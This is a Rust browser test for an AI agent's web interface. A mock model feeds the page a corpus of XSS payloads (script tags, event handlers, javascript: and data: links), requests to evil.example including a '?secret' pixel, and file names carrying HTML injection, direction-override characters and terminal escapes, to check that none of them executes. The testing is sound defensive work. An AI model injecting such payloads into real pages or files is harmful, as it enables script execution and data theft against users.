//! `agent web` in a real browser: Debian's Chromium, driven by `tests/servers/browser/page.mjs`.

use agent_testbed::agent::{agent, binary};
use agent_testing::endpoint::{Script, endpoint};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// How long all of it may take on a machine that is busy.
const DEADLINE: Duration = Duration::from_secs(900);

/// Text that tries to be more than text.
const CORPUS: &str = r#"<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2">

[a](javascript:window.pwned=3) [b](data:text/html,<script>window.pwned=4</script>) ![c](http://evil.example/pixel.png?secret)

<svg onload="window.pwned = 5"><style>@import 'http://evil.example/x.css'</style></svg>

[d]: http://evil.example/ "onmouseover=window.pwned=6"

`<iframe srcdoc="<script>parent.pwned = 7</script>">`

| <b>x</b> | "onfocus=window.pwned=8 autofocus |
|---|---|
| [e](vbscript:x) | <https://evil.example/autolink> |

end of the corpus"#;

/// The model's part: what it answers to which prompt.
fn model(request: &Value) -> Script {
    let messages = request["messages"].as_array().cloned().unwrap_or_default();
    let prompt = messages.iter().rev().find(|message| message["role"] == "user");
    let prompt = prompt.map(|prompt| prompt["content"].to_string()).unwrap_or_default();
    let has_result = messages.last().is_some_and(|message| message["role"] == "tool");
    let call = |command: &str| endpoint().tool_call("run_commands", json!({ "command": command }));
    match (prompt.as_str(), has_result) {
        (prompt, false) if prompt.contains("change the list") => {
            call("sed -i 's/one/ONE/; s/ten/TEN/' list.txt; echo hello from inside")
        }
        (prompt, true) if prompt.contains("change the list") => endpoint().text(
            "**Done.** Two lines of `list.txt` are in capitals now:\n\n| line | before | after |\n|---:|---|---|\n| 1 | one | ONE |\n\
             | 10 | ten | TEN |\n\n```sh\nhead -1 list.txt\n```\n\nand <b>not bold</b>.",
        ),
        (prompt, false) if prompt.contains("a chart please") => {
            let code = "class Chart:\n  def _repr_html_(self): return open('leaking.html').read()\nChart()";
            endpoint().tool_call("run_code", json!({ "language": "python", "code": code }))
        }
        (prompt, true) if prompt.contains("a chart please") => endpoint().text("shown"),
        (prompt, _) if prompt.contains("slow answer") => {
            let text: String = (1..=30).map(|number| format!("This is paragraph {number} of *many*.\n\n")).collect();
            endpoint().text(&(text + "the very end")).pieces(200).pace(Duration::from_millis(150))
        }
        (prompt, _) if prompt.contains("a short wait") => endpoint().text("waited").delay(Duration::from_secs(4)),
        (prompt, _) if prompt.contains("overloaded twice") => {
            static REFUSED: AtomicUsize = AtomicUsize::new(0);
            match REFUSED.fetch_add(1, Ordering::Relaxed) {
                0 | 1 => endpoint().error(503, "overloaded"),
                _ => endpoint().text("there again"),
            }
        }
        (prompt, _) if prompt.contains("hang") => endpoint().text("late").delay(Duration::from_secs(3600)),
        (prompt, _) if prompt.contains("three steps") => {
            let results = messages.iter().rev().take_while(|message| message["role"] != "user");
            match results.filter(|message| message["role"] == "tool").count() {
                0 => call("echo one"),
                1 => endpoint()
                    .tool_call("write_file", json!({"path": "notes.txt", "data": "a note\n"})),
                2 => call("cat notes.txt"),
                _ => endpoint().text("all three"),
            }
        }
        (prompt, false) if prompt.contains("edit the words") => endpoint()
            .tool_call("edit_file", json!({"path": "words.txt", "old": "the quick", "new": "the slow"})),
        (prompt, _) if prompt.contains("slow code") => {
            let lines: String = (1..=20).map(|number| format!("echo {number}\n")).collect();
            let text = format!("Here:\n\n```sh\n{lines}```\n");
            endpoint().text(&text).pieces(40).pace(Duration::from_millis(50))
        }
        (prompt, false) if prompt.contains("hostile") => call(
            "touch '<img src=x onerror=\"window.pwned=9\">.txt' \"$(printf 'a\\342\\200\\256b.txt')\"; echo '<script>pwned=1</script>' > page.html; \
             printf '\\033]0;title\\007\\033[31m<img src=x onerror=pwned=1>\\033[0m \\342\\200\\256 reversed\\n'",
        ),
        (prompt, true) if prompt.contains("hostile") => {
            endpoint().text(&format!("\u{202e}reversed \u{1b}[31mred\n\n{CORPUS}"))
        }
        (prompt, _) if prompt.contains("after the restart") => endpoint().text("I am back"),
        _ => endpoint().text("I did not understand that."),
    }
}

/// Returns what the page is driven with, installed once; `None` where this machine lacks something.
fn modules() -> Option<PathBuf> {
    let required = std::env::var_os("CI").is_some_and(|value| value == "true");
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/browser");
    let have = |program: &str| Command::new(program).arg("--version").stdout(Stdio::null()).status().is_ok();
    let missing = if !Path::new("/usr/bin/chromium").exists() {
        Some("chromium (Debian: apt install chromium)")
    } else if !have("node") || !have("npm") {
        Some("node and npm")
    } else if !required && !directory.join("node_modules").exists() {
        Some("target/browser/node_modules (run .ci/browser)")
    } else {
        None
    };
    match missing {
        None => {
            let installed = Command::new(Path::new(env!("CARGO_MANIFEST_DIR")).join(".ci/browser")).status();
            assert!(installed.is_ok_and(|status| status.success()), ".ci/browser failed");
            Some(directory)
        }
        Some(missing) if required => panic!("missing: {missing}"),
        Some(missing) => {
            agent_testing::skip::left_out(format!("the browser tests need {missing}"));
            None
        }
    }
}

#[test]
fn the_page_works_in_a_browser_and_other_pages_get_nowhere() {
    let Some(modules) = modules() else { return };
    let model = endpoint()
        .by_rule(model)
        .models(200, r#"{"data":[{"id":"test-model"},{"id":"other-model"}]}"#)
        .start();
    let agent = agent()
        .file("list.txt", "one\ntwo\n3\n4\n5\n6\n7\n8\n9\nten\n")
        .file("words.txt", "the quick brown fox jumps over the lazy dog\n");
    let mut page = Command::new("node")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/servers/browser/page.mjs"))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", agent.home("home"))
        .env("AGENT_HOME", agent.home(""))
        .env("AGENT_SANDBOX", "local")
        .env("AGENT_BASE_URL", model.url())
        .env("AGENT_API_KEY", "test-key")
        .env("AGENT_MODEL", "test-model")
        .env("AGENT_BINARY", binary())
        .env("BROWSER_MODULES", &modules)
        .env("STEPS", std::env::var_os("STEPS").unwrap_or_default())
        .env("SHOTS", modules.join("shots"))
        .env("WORKSPACE", agent.workspace())
        .spawn()
        .expect("node starts");
    let started = Instant::now();
    let status = loop {
        if let Some(status) = page.try_wait().expect("waiting") {
            break status;
        }
        if started.elapsed() > DEADLINE {
            let _ = page.kill();
            panic!("the browser tests did not end in {DEADLINE:?}");
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(status.success(), "the browser tests failed: see their output above");
}
